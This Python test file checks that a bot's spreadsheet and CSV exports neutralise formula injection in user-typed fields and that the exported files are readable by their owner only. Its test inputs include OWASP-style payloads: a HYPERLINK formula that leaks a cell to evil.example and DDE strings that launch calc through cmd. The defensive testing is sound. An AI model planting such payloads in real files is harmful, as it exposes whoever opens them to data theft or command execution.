"""Spreadsheet formula injection: what people typed (a report's place, a review's title, a name on the roster)
reaches every workbook and CSV file as text, never as a live formula; and the files are for their owner only."""

from __future__ import annotations

import csv
import io
import stat
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import update

from bot.cli import run_command
from bot.config import Settings
from bot.db.models import Staff
from bot.handlers.pledges import service as pledges
from bot.handlers.pledges.rules import PledgeKind
from bot.services.sheets import FORMULA_LEADS, append_row, cell, csv_bytes
from tests.conftest import TZ
from tests.fakes.local import LocalBot
from tests.test_compliance_export import passed_paper
from tests.test_leak_e2e import file_report
from tests.test_review_e2e import submit_request

# What a hostile or careless person types where the bot keeps text (OWASP's CSV injection examples, and the tab and
# carriage return Excel skips before one).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点这里")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_lead_is_neutralised_and_stored_as_text(text: str) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    append_row(sheet, [text, 3, -2.5, None, "x"])
    out = io.BytesIO()
    book.save(out)
    [row] = load_workbook(io.BytesIO(out.getvalue())).active.iter_rows()  # type: ignore[union-attr]
    # (XML keeps a carriage return as a line feed.)
    assert row[0].data_type == "s" and row[0].value == "'" + text.replace("\r", "\n")
    assert (row[1].value, row[2].value, row[3].value) == (3, -2.5, None)  # numbers stay numbers
    assert next(csv.reader(io.StringIO(csv_bytes([[text, 3]]).decode("utf-8-sig")))) == ["'" + text, "3"]
    assert cell("普通文字 = 没问题") == "普通文字 = 没问题" and cell("") == ""


def assert_inert(path: Path) -> int:
    """No formula anywhere in the file, and no text that a spreadsheet would read as one; returns how many texts
    were neutralised (the file held something hostile)."""
    neutralised = 0
    if path.suffix == ".csv":
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))):
            for value in row:
                assert value[:1] not in FORMULA_LEADS, (path.name, value)
                neutralised += value.startswith("'")
        return neutralised
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for found in row:
                assert found.data_type != "f", (path.name, sheet.title, found.coordinate, found.value)
                if isinstance(found.value, str):
                    assert found.value[:1] not in FORMULA_LEADS, (path.name, found.value)
                    neutralised += found.value.startswith("'")
    return neutralised


async def test_every_export_writes_what_people_typed_as_text(bot: LocalBot, db_url: str, tmp_path: Path) -> None:
    officer = await bot.bind("E001")
    reporter = await bot.bind("E202")
    head = await bot.bind("E201")
    await file_report(reporter, place=HOSTILE[0])
    await submit_request(reporter, title=HOSTILE[3])
    await head.send("/reviews")
    # Names on the roster, as an import would have them.
    async with bot.app.db.transaction() as s:
        for number, (employee_id, text) in enumerate(zip(("E001", "E202", "E203", "E204"), HOSTILE, strict=False)):
            await s.execute(update(Staff).where(Staff.employee_id == employee_id).values(name=f"{text}{number}"))
        for employee_id in ("E001", "E202"):
            staff_id = await bot.staff_id(employee_id)
            shown = pledges.Shown(PledgeKind.ONBOARDING, None, 2026, 1, "上岗 v1")
            await pledges.sign(s, datetime(2026, 3, 2, 10, tzinfo=TZ), staff_id, shown, "签名", "telegram")
            s.add(passed_paper(staff_id, 90))
    assert officer.last is not None

    settings = Settings(database_url=db_url, timezone=TZ)
    commands = {
        "pledges.xlsx": ["export", "pledges", "--year", "2026"],
        "pledges.csv": ["export", "pledges", "--year", "2026"],
        "quiz.xlsx": ["export", "quiz", "--year", "2026"],
        "quiz.csv": ["export", "quiz", "--year", "2026"],
        "reports.xlsx": ["export", "reports"],
        "compliance.xlsx": ["export", "compliance"],
        "roster.xlsx": ["export", "roster", "--year", "2026"],
        "reviews.xlsx": ["export", "reviews"],
        "invites.csv": ["invites"],
    }
    for name, command in commands.items():
        out = tmp_path / name
        assert await run_command(settings, [*command, "--out", str(out)], bot.clock) == 0, name
        assert assert_inert(out) > 0, f"{name} held nothing hostile: the test proves nothing"
        assert stat.S_IMODE(out.stat().st_mode) == 0o600, name


def test_no_writer_bypasses_the_cell_helper() -> None:
    """Every module that builds a workbook writes its rows through bot/services/sheets.py, and only that module
    writes CSV."""
    bot = Path(__file__).parents[1] / "bot"
    for path in bot.rglob("*.py"):
        source = path.read_text(encoding="utf-8")
        if path.name == "sheets.py":
            continue
        assert "csv.writer" not in source and "DictWriter" not in source, path
        if "Workbook()" in source:
            # Its rows go through the helper, or through the compliance export's fill_sheet, which does.
            assert "from bot.services.sheets import" in source or "fill_sheet" in source, path
            assert ".append(header)" not in source and "sheet.append(" not in source, path
